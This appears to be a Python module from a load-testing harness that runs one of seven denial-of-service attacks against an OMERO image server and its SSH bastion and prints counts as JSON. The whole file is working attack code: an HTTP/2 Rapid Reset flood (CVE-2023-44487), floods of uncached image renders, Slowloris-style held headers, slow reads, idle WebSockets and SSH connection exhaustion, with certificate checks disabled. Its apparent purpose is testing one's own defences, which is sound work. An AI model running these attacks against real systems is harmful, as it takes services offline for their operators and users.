"""A hostile visitor: `python -m harness.attack.hostile KIND ADDRESS HOST SECONDS` runs one kind of attack for so long.

Prints counts of what it did as JSON. Runs in its own network namespace, so that it has its own address.
"""

import json
import random
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import closing, suppress
from functools import cache
from itertools import count

import h2.connection
import h2.errors
import h2.events
import h2.exceptions

COLD = "/webgateway/render_image/{}/0/0/?q=0.{}"
KEPT = "/webgateway/get_thumbnails/?" + "&".join(f"id={number}" for number in range(1, 51))
STREAMS = 100
"""Open requests of one connection at the same time."""
LOTS = 100
"""Requests of one connection in a flood of cached pages."""
HELD = 2400
SECONDS_TO_CONNECT = 2


def main(kind: str, address: str, host: str, seconds: float) -> dict[str, int]:
    """Run one kind of attack for so many seconds; return counts of what it did."""
    return KINDS[kind](address, host, time.monotonic() + seconds)


def cold(address: str, host: str, end: float) -> dict[str, int]:
    """Request pages that are not cached, as fast as HTTP/2 permits, and read the responses."""
    return _ask(address, host, end, reset=False)


def reset(address: str, host: str, end: float) -> dict[str, int]:
    """Do the same, but cancel each request at once (CVE-2023-44487)."""
    return _ask(address, host, end, reset=True)


def kept(address: str, host: str, end: float) -> dict[str, int]:
    """Do the same with cached pages, as fast as the proxy accepts them."""
    asked = connections = 0
    while time.monotonic() < end:
        with suppress(OSError), closing(_secured(address, host, "h2")) as wire:
            connections += 1
            for lot in _cancelled(host):
                wire.settimeout(SECONDS_TO_CONNECT)
                wire.sendall(lot)
                asked += STREAMS
                with suppress(TimeoutError):
                    _drain(wire)
    return {"requests": asked, "connections": connections}


def headers(address: str, _: str, end: float) -> dict[str, int]:
    """Open connections with requests that never end."""
    return _hold(end, lambda: _begun(_connected(address, 80), b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "))


def reading(address: str, host: str, end: float) -> dict[str, int]:
    """Request a large response and do not read it."""
    request = f"GET {KEPT} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    return _hold(end, lambda: _begun(_secured(address, host), request))


def websockets(address: str, host: str, end: float) -> dict[str, int]:
    """Open WebSockets that send nothing."""
    asked = f"GET /omero-ws HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    rest = "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
    return _hold(end, lambda: _begun(_secured(address, host), f"{asked}{rest}".encode()))


def ssh(address: str, _: str, end: float) -> dict[str, int]:
    """Open connections to the bastion that never log in."""
    return _hold(end, lambda: _connected(address, 22))


KINDS: dict[str, Callable[[str, str, float], dict[str, int]]] = {
    "cold": cold,
    "reset": reset,
    "kept": kept,
    "headers": headers,
    "reading": reading,
    "websockets": websockets,
    "ssh": ssh,
}


def _hold(end: float, connect: Callable[[], socket.socket]) -> dict[str, int]:
    """Keep as many connections open as possible, and open another one for each that is closed."""
    held: list[socket.socket] = []
    opened = failed = 0
    while time.monotonic() < end:
        try:
            held.append(connect())
            opened += 1
        except OSError:
            failed += 1
            time.sleep(0.01)
        if len(held) >= HELD:
            held.pop(0).close()
    for one in held:
        one.close()
    return {"opened": opened, "refused": failed}


def _ask(address: str, host: str, end: float, *, reset: bool) -> dict[str, int]:
    asked = connections = 0
    while time.monotonic() < end:
        connections += 1
        with suppress(OSError, h2.exceptions.ProtocolError), closing(_secured(address, host, "h2")) as wire:
            for _ in _requests(wire, host, end, reset=reset):
                asked += 1
    return {"requests": asked, "connections": connections}


def _requests(wire: ssl.SSLSocket, host: str, end: float, *, reset: bool) -> Iterator[int]:
    """Yield each request of one connection, until the server closes it."""
    connection = h2.connection.H2Connection()
    connection.initiate_connection()
    wire.settimeout(0.05)
    for stream in count(1, 2):
        path = COLD.format(random.randint(1, 384), random.randint(10**8, 10**9))  # noqa: S311  # no secret
        names = {":method": "GET", ":scheme": "https", ":authority": host, ":path": path}
        while not reset and connection.open_outbound_streams >= STREAMS and time.monotonic() < end:
            _read(wire, connection)
        if time.monotonic() >= end:
            return
        connection.send_headers(stream, list(names.items()), end_stream=True)
        if reset:
            connection.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
        yield stream
        if not reset or stream % (2 * STREAMS) == 1:
            _read(wire, connection)


@cache
def _cancelled(host: str) -> list[bytes]:
    """Return the bytes that one connection sends. They are created once, so that the attack itself costs little."""
    connection, lots = h2.connection.H2Connection(), []
    connection.initiate_connection()
    names = {":method": "GET", ":scheme": "https", ":authority": host, ":path": KEPT}
    for stream in range(1, 2 * LOTS * STREAMS, 2):
        connection.send_headers(stream, list(names.items()), end_stream=True)
        connection.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
        if (stream + 1) % (2 * STREAMS) == 0:
            lots.append(connection.data_to_send())
    return lots


def _drain(wire: ssl.SSLSocket) -> None:
    """Read what has arrived. Raises ConnectionResetError at the end."""
    wire.settimeout(0.001)
    while wire.recv(65536):
        pass
    raise ConnectionResetError


def _read(wire: ssl.SSLSocket, connection: h2.connection.H2Connection) -> None:
    """Send what is pending, and read what has arrived."""
    wire.sendall(connection.data_to_send())
    with suppress(TimeoutError, ssl.SSLWantReadError):
        data = wire.recv(65536)
        if not data:
            raise ConnectionResetError
        for event in connection.receive_data(data):
            if isinstance(event, h2.events.DataReceived):
                connection.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
    wire.sendall(connection.data_to_send())


def _connected(address: str, port: int) -> socket.socket:
    return socket.create_connection((address, port), timeout=SECONDS_TO_CONNECT)


def _secured(address: str, host: str, protocol: str = "http/1.1") -> ssl.SSLSocket:
    return _context(protocol).wrap_socket(_connected(address, 443), server_hostname=host)


@cache
def _context(protocol: str) -> ssl.SSLContext:
    # An attacker verifies no certificate, and does not load the system's authorities for each connection.
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context


def _begun(wire: socket.socket, request: bytes) -> socket.socket:
    wire.sendall(request)
    return wire


if __name__ == "__main__":
    _, wanted, target, name, duration = sys.argv
    print(json.dumps(main(wanted, target, name, float(duration))))
